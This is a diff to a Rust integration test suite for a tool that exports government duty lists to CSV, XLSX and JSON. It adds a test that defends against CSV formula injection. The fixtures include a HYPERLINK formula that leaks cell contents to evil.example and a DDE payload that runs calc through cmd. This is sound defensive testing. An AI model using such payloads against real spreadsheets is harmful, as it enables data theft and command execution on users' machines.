@@ -7,8 +7,9 @@ mod common;
 
 use calamine::{Data, Reader, Xlsx};
 use common::{qingdan, tags, TempDir};
-use qingdan::model::fields::ITEM_COLUMNS;
-use qingdan::model::{Item, ItemList, Part, Site};
+use qingdan::derive::{Index, Values};
+use qingdan::export::dictionary::{self, Column};
+use qingdan::model::{Field, Item, ItemList, Part, Site};
 use serde_json::Value;
 use std::collections::BTreeMap;
 use std::path::{Path, PathBuf};
@@ -65,7 +66,7 @@ fn lists(site: &Site) -> Vec<&ItemList> {
 
 /// Item columns plus the list's extra columns in first-seen order.
 fn headers(list: &ItemList) -> Vec<String> {
-    let mut h: Vec<String> = ITEM_COLUMNS.iter().map(|(_, l)| l.to_string()).collect();
+    let mut h: Vec<String> = dictionary::field_columns().iter().map(|c| c.header.clone()).collect();
     for item in &list.items {
         for (k, _) in &item.extra {
             if !h.contains(k) {
@@ -76,9 +77,19 @@ fn headers(list: &ItemList) -> Vec<String> {
     h
 }
 
-/// The key `Item::field` takes for a header.
-fn key_of(header: &str) -> String {
-    ITEM_COLUMNS.iter().find(|(_, h)| *h == header).map(|(k, _)| k.to_string()).unwrap_or_else(|| header.to_string())
+/// What a cell under `header` must hold for `item`: the field's effective value (checked
+/// against the model directly for the values with a default, see `effective_values_match`),
+/// the departments' codes, or the publisher's extra column. A part's own header
+/// (对应上级部门) means the same field.
+fn cell_text(values: &Values, item: &Item, header: &str) -> String {
+    let columns = dictionary::field_columns();
+    let same = |c: &Column| {
+        c.header == header || Part::ALL.iter().any(|p| c.header_in(*p) == header && c.header_in(*p) != c.header)
+    };
+    match columns.iter().find(|c| same(c)) {
+        Some(c) => c.cell.of(values, item, &c.key).into_owned(),
+        None => item.extra(header).to_string(),
+    }
 }
 
 fn read_csv(path: &Path) -> (Vec<String>, Vec<Vec<String>>) {
@@ -98,18 +109,23 @@ fn cell(range: &calamine::Range<Data>, row: u32, col: u32) -> String {
     }
 }
 
-fn check_csv(data: &Path, list: &ItemList) {
+fn check_csv(data: &Path, site: &Site, list: &ItemList) {
+    let index = Index::new(site);
+    let values = Values::of(&index, list);
     let (header, rows) = read_csv(&data.join(format!("{}.csv", list.body.value)));
     assert_eq!(header, headers(list), "{}.csv header", list.body.value);
     assert_eq!(rows.len(), list.items.len(), "{}.csv: one row per item", list.body.value);
     for (row, item) in rows.iter().zip(&list.items) {
         for (h, value) in header.iter().zip(row) {
-            assert_eq!(*value, item.field(&key_of(h)), "{}.csv {} {h}", list.body.value, item.code.value);
+            let written = qingdan::export::csv::guard(&cell_text(&values, item, h)).into_owned();
+            assert_eq!(*value, written, "{}.csv {} {h}", list.body.value, item.code.value);
         }
     }
 }
 
-fn check_xlsx(data: &Path, list: &ItemList, title: &str) {
+fn check_xlsx(data: &Path, site: &Site, list: &ItemList, title: &str) {
+    let index = Index::new(site);
+    let values = Values::of(&index, list);
     let path = data.join(format!("{}.xlsx", list.body.value));
     let mut wb: Xlsx<_> = calamine::open_workbook(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
     let parts: Vec<Part> = Part::ALL.into_iter().filter(|p| list.part(*p).next().is_some()).collect();
@@ -140,24 +156,39 @@ fn check_xlsx(data: &Path, list: &ItemList, title: &str) {
             assert!(header.iter().any(|h| h == must), "{}.xlsx {name}: header {must} in {header:?}", list.body.value);
         }
         let all = headers(list);
-        let order: Vec<usize> = header.iter().map(|h| all.iter().position(|a| a == h).expect("known header")).collect();
+        let generic = |h: &String| {
+            dictionary::field_columns()
+                .into_iter()
+                .find(|c| c.header_in(part) == h)
+                .map(|c| c.header)
+                .unwrap_or(h.clone())
+        };
+        let order: Vec<usize> =
+            header.iter().map(|h| all.iter().position(|a| *a == generic(h)).expect("known header")).collect();
         let note = all.iter().position(|h| h == "备注").unwrap();
         assert_eq!(&order[order.len() - 2..], [note, 0], "{name}: 备注 then 清单部分 last");
         let rest = &order[..order.len() - 2];
-        assert!(rest.windows(2).all(|w| w[0] < w[1]), "{name}: other columns in ITEM_COLUMNS order");
+        assert!(rest.windows(2).all(|w| w[0] < w[1]), "{name}: other columns in declaration order");
         let items: Vec<&Item> = list.part(part).collect();
         let last = range.end().unwrap().0;
         assert_eq!((last - 2) as usize, items.len(), "{}.xlsx {name}: item count", list.body.value);
         for (r, item) in items.iter().enumerate() {
             for (c, h) in header.iter().enumerate() {
                 let value = cell(&range, 3 + r as u32, c as u32);
-                assert_eq!(value, item.field(&key_of(h)), "{}.xlsx {name} {} {h}", list.body.value, item.code.value);
+                assert_eq!(
+                    value,
+                    cell_text(&values, item, h),
+                    "{}.xlsx {name} {} {h}",
+                    list.body.value,
+                    item.code.value
+                );
             }
         }
         // Every column left out is empty (or 实施, the default status) for the whole part.
-        for h in all.iter().filter(|h| !header.contains(h)) {
+        let shown: Vec<String> = header.iter().map(generic).collect();
+        for h in all.iter().filter(|h| !shown.contains(h)) {
             for item in &items {
-                let v = item.field(&key_of(h));
+                let v = cell_text(&values, item, h);
                 assert!(
                     v.is_empty() || (h == "状态" && v == "实施"),
                     "{name}: {h} left out but {} has {v:?}",
@@ -169,6 +200,8 @@ fn check_xlsx(data: &Path, list: &ItemList, title: &str) {
 }
 
 fn check_json(data: &Path, site: &Site, list: &ItemList, title: &str) {
+    let index = Index::new(site);
+    let values = Values::of(&index, list);
     let path = data.join(format!("{}.json", list.body.value));
     let json: Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
     let schema: Value = serde_json::from_slice(&std::fs::read(data.join("schema/list.json")).unwrap()).unwrap();
@@ -198,7 +231,8 @@ fn check_json(data: &Path, site: &Site, list: &ItemList, title: &str) {
         assert_eq!(j["code"], item.code.value.as_str());
         assert_eq!(j["name"], item.name.as_str());
         assert_eq!(j["part"], item.part.name());
-        assert_eq!(j["status"], item.status.name());
+        let status = if item.part == Part::Basic { Value::from(item.status.name()) } else { Value::Null };
+        assert_eq!(j["status"], status);
         assert_eq!(j["basis"]["text"], item.basis.text.as_str());
         assert_eq!(j["basis"]["sources"].as_array().unwrap().len(), item.basis.sources.len());
         assert_eq!(j["sub_items"], Value::from(item.sub_items.clone()));
@@ -209,13 +243,20 @@ fn check_json(data: &Path, site: &Site, list: &ItemList, title: &str) {
             }
             None => assert!(j["type"].is_null()),
         }
-        for (key, _) in ITEM_COLUMNS {
-            if ["sub_items", "type", "basis"].contains(key) {
+        for c in dictionary::field_columns() {
+            let key = c.key.as_str();
+            if ["sub_items", "type", "basis"].contains(&key) {
                 continue;
             }
-            let text = item.field(key);
-            let want = if text.is_empty() { Value::Null } else { Value::from(text) };
-            assert_eq!(j[*key], want, "{} {} {key}", list.body.value, item.code.value);
+            let text = cell_text(&values, item, &c.header);
+            let want = match c.value {
+                dictionary::ValueType::Lines | dictionary::ValueType::Codes => {
+                    Value::from(text.lines().filter(|l| !l.is_empty()).collect::<Vec<_>>())
+                }
+                _ if text.is_empty() => Value::Null,
+                _ => Value::from(text),
+            };
+            assert_eq!(j[key], want, "{} {} {key}", list.body.value, item.code.value);
         }
         let extra: Vec<(String, String)> =
             j["extra"].as_object().unwrap().iter().map(|(k, v)| (k.clone(), v.as_str().unwrap().to_string())).collect();
@@ -311,11 +352,13 @@ fn check_datapackage(data: &Path, site: &Site) {
     for row in &rows {
         by_key.insert((row[0].clone(), row[code].clone()), row);
     }
+    let index = Index::new(site);
     for (list, item) in all {
+        let values = Values::of(&index, list);
         let row = by_key[&(list.body.value.clone(), item.code.value.clone())];
         assert_eq!(row[1], site.body(&list.body).unwrap().name);
         for (h, v) in header.iter().zip(row.iter()).skip(2) {
-            assert_eq!(*v, item.field(&key_of(h)), "all-items.csv {} {h}", item.code.value);
+            assert_eq!(*v, cell_text(&values, item, h), "all-items.csv {} {h}", item.code.value);
         }
     }
 }
@@ -354,7 +397,8 @@ fn check_data_page(out: &Path) {
     for section in ["数据字典", "含义", "类型", "<caption>", "scope=\"col\"", "scope=\"row\""] {
         assert!(page.contains(section), "data page has {section}");
     }
-    for (key, header) in ITEM_COLUMNS {
+    for f in Field::ALL {
+        let (key, header) = (f.key(), f.label());
         assert!(page.contains(&format!("<code>{key}</code>")) && page.contains(header), "dictionary lists {key}");
     }
 }
@@ -394,8 +438,8 @@ fn check_site(root: &Path, out: &Path) {
         let title = list.title.clone().unwrap_or_else(|| {
             format!("{}{}", body.name, if body.kind.is_grassroots() { "履行职责事项清单" } else { "权责清单" })
         });
-        check_csv(&data, list);
-        check_xlsx(&data, list, &title);
+        check_csv(&data, &site, list);
+        check_xlsx(&data, &site, list, &title);
         check_json(&data, &site, list, &title);
         check_body_links(out, list);
     }
@@ -509,11 +553,9 @@ fn assert_same_items(what: &str, original: &ItemList, imported: &ItemList) {
         original.items.iter().map(|i| i.code.value.as_str()).collect::<Vec<_>>(),
         "{what}: same items in the same order"
     );
-    let columns = headers(original);
     for (a, b) in original.items.iter().zip(&imported.items) {
-        for h in &columns {
-            let key = key_of(h);
-            assert_eq!(b.field(&key), a.field(&key), "{what}: {} {h}", a.code.value);
+        for f in Field::ALL {
+            assert_eq!(b.text(*f), a.text(*f), "{what}: {} {}", a.code.value, f.label());
         }
         assert_eq!(b.extra, a.extra, "{what}: {} extra columns", a.code.value);
     }
@@ -551,4 +593,152 @@ fn the_docs_describe_every_column() {
         let row = format!("| `{}` | {} | {} |", c.key, c.header, c.meaning);
         assert!(docs.contains(&row), "docs/data.md lacks the row of {} ({})", c.key, c.header);
     }
+}
+
+// ---------------------------------------------------------------------------------------------
+// Formula injection (OWASP "CSV Injection")
+
+/// First characters that make Excel, WPS or LibreOffice run a CSV cell as a formula.
+const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// An item whose cells begin like formulas: attacks (a HYPERLINK that leaks the sheet, a DDE
+/// command), values that legitimately start the same way (a dash for "none", a negative
+/// number, an international phone number), and a value that already starts with the quote.
+const FORMULA_ITEM: &str = r#"
+[[basic]]
+code = "DC-QT-099"
+number = "-1"
+name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")"
+sub_items = ["+1+1", "@SUM(1+1)*cmd|' /C calc'!A0"]
+type = "行政确认"
+origin = "法定"
+subject = "-"
+basis = "\t=1+1 以制表符开头的依据"
+note = "\r=2+3 以回车开头的备注"
+supervision_phone = "+86 571 12345"
+extra = { "原表说明" = "'=已有单引号", "负数" = "-3", "两个引号" = "''@x", "普通" = "'不变" }
+
+"#;
+
+/// Every cell of a CSV file (header included), parsed as a spreadsheet program reads it.
+fn csv_cells(bytes: &[u8]) -> Vec<String> {
+    let body = bytes.strip_prefix(BOM).unwrap_or(bytes);
+    let mut r = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(body);
+    r.records().flat_map(|rec| rec.unwrap().iter().map(String::from).collect::<Vec<_>>()).collect()
+}
+
+#[test]
+fn formula_looking_cells_are_neutralised_in_every_csv_and_import_back_exactly() {
+    let tmp = TempDir::new("export-formulas");
+    let root = starter(&tmp);
+    let list = root.join("content/lists/dongcun.toml");
+    let text = std::fs::read_to_string(&list).unwrap();
+    let at = text.find("[[support]]").unwrap();
+    std::fs::write(&list, format!("{}{FORMULA_ITEM}{}", &text[..at], &text[at..])).unwrap();
+    let body = root.join("content/bodies/dongcun.toml");
+    let text = std::fs::read_to_string(&body).unwrap().replacen(
+        "phone = \"0571-00000100\"",
+        "phone = \"+86 571 00000100\"",
+        1,
+    );
+    std::fs::write(&body, text).unwrap();
+    let root_arg = root.to_str().unwrap();
+    let run = qingdan([
+        "release",
+        "--root",
+        root_arg,
+        "--title",
+        "首次公布",
+        "--effective",
+        "2025-10-01",
+        "--document",
+        "示编办〔2025〕1号",
+    ]);
+    assert_eq!(run.code, 0, "{run}");
+    // A change after the release, so the diff has formula-looking old and new values.
+    let text = std::fs::read_to_string(&list).unwrap().replacen("subject = \"-\"", "subject = \"=1-1\"", 1);
+    std::fs::write(&list, text).unwrap();
+    let out = tmp.join("public");
+    build(&root, &out);
+
+    // Every CSV the site publishes: no cell begins like a formula.
+    let csvs: Vec<PathBuf> = walk(&out).into_iter().filter(|p| p.extension().is_some_and(|e| e == "csv")).collect();
+    for must in ["data/dongcun.csv", "data/all-items.csv", "data/bodies.csv"] {
+        assert!(csvs.contains(&out.join(must)), "{must} was not written");
+    }
+    let mut release_csvs_with_item = 0;
+    for path in &csvs {
+        let bytes = std::fs::read(path).unwrap();
+        let cells = csv_cells(&bytes);
+        for c in &cells {
+            assert!(!c.starts_with(FORMULA_START), "{}: cell {c:?} would run as a formula", path.display());
+        }
+        if cells.iter().any(|c| c == "DC-QT-099")
+            && !path.ends_with("data/dongcun.csv")
+            && !path.ends_with("data/all-items.csv")
+        {
+            release_csvs_with_item += 1;
+        }
+    }
+    assert!(release_csvs_with_item > 0, "no release CSV holds the item: {csvs:#?}");
+    // The quote prefix is the only change, and only where needed.
+    let (header, rows) = read_csv(&out.join("data/dongcun.csv"));
+    let row = rows.iter().find(|r| r.contains(&"DC-QT-099".to_string())).unwrap();
+    let col = |h: &str| &row[header.iter().position(|x| x == h).unwrap_or_else(|| panic!("no column {h}"))];
+    assert_eq!(col("事项名称"), "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")");
+    assert_eq!(col("序号"), "'-1");
+    assert_eq!(col("子项名称"), "'+1+1\n@SUM(1+1)*cmd|' /C calc'!A0");
+    assert_eq!(col("行使主体"), "'=1-1");
+    assert_eq!(col("实施依据"), "'\t=1+1 以制表符开头的依据");
+    assert_eq!(col("备注"), "'\r=2+3 以回车开头的备注");
+    assert_eq!(col("监督电话"), "'+86 571 12345");
+    assert_eq!(col("原表说明"), "''=已有单引号");
+    assert_eq!(col("负数"), "'-3");
+    assert_eq!(col("两个引号"), "'''@x");
+    assert_eq!(col("普通"), "'不变");
+    assert_eq!(col("事项编码"), "DC-QT-099");
+    let (header, rows) = read_csv(&out.join("data/bodies.csv"));
+    let phone = header.iter().position(|h| h == "电话").unwrap();
+    assert!(rows.iter().any(|r| r[phone] == "'+86 571 00000100"), "{rows:?}");
+
+    // `qingdan diff --format csv` goes through the same writer.
+    let run = qingdan(["diff", "2025-10-01", "current", "--root", root_arg, "--format", "csv"]);
+    assert_eq!(run.code, 0, "{run}");
+    let cells = csv_cells(run.stdout.as_bytes());
+    assert!(cells.iter().any(|c| c == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")"), "{}", run.stdout);
+    assert!(cells.iter().any(|c| c == "'-") && cells.iter().any(|c| c == "'=1-1"), "{}", run.stdout);
+    for c in &cells {
+        assert!(!c.starts_with(FORMULA_START), "diff CSV: cell {c:?} would run as a formula");
+    }
+
+    // XLSX writes text as text: the formula-looking name is a string cell, not a formula.
+    let mut wb: Xlsx<_> = calamine::open_workbook(out.join("data/dongcun.xlsx")).unwrap();
+    let range = wb.worksheet_range(Part::Basic.name()).unwrap();
+    let name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")";
+    assert!(range.used_cells().any(|(_, _, d)| *d == Data::String(name.into())), "the name is a string cell");
+    let formulas = wb.worksheet_formula(Part::Basic.name()).unwrap();
+    assert_eq!(formulas.used_cells().count(), 0, "no formula in the XLSX");
+
+    // Import undoes the prefix: export → import gives back every value, as the XLSX (which
+    // has no prefix) does. Import trims white space at the ends of every cell, whatever the
+    // format, so the tab and carriage return that began two values are not expected back.
+    let site = load(&root);
+    let original = site.list("dongcun").unwrap();
+    let from_csv = import_into_copy(&root, &tmp, "import-formulas-csv", "dongcun", &out.join("data/dongcun.csv"));
+    let from_xlsx = import_into_copy(&root, &tmp, "import-formulas-xlsx", "dongcun", &out.join("data/dongcun.xlsx"));
+    let (from_csv, from_xlsx) = (from_csv.list("dongcun").unwrap(), from_xlsx.list("dongcun").unwrap());
+    assert_same_items("csv and xlsx", from_xlsx, from_csv);
+    assert_eq!(from_csv.items.len(), original.items.len());
+    for (a, b) in original.items.iter().zip(&from_csv.items) {
+        for f in Field::ALL {
+            assert_eq!(b.text(*f), a.text(*f).trim(), "{} {}", a.code.value, f.label());
+        }
+    }
+    let item = from_csv.items.iter().find(|i| i.code.value == "DC-QT-099").unwrap();
+    assert_eq!(item.name, name);
+    assert_eq!(item.number.as_deref(), Some("-1"));
+    assert_eq!(item.subject.as_deref(), Some("=1-1"));
+    assert_eq!(item.sub_items, ["+1+1", "@SUM(1+1)*cmd|' /C calc'!A0"]);
+    assert_eq!(item.basis.text, "=1+1 以制表符开头的依据");
+    assert_eq!(item.extra.iter().find(|(k, _)| k == "原表说明").map(|(_, v)| v.as_str()), Some("'=已有单引号"));
 }
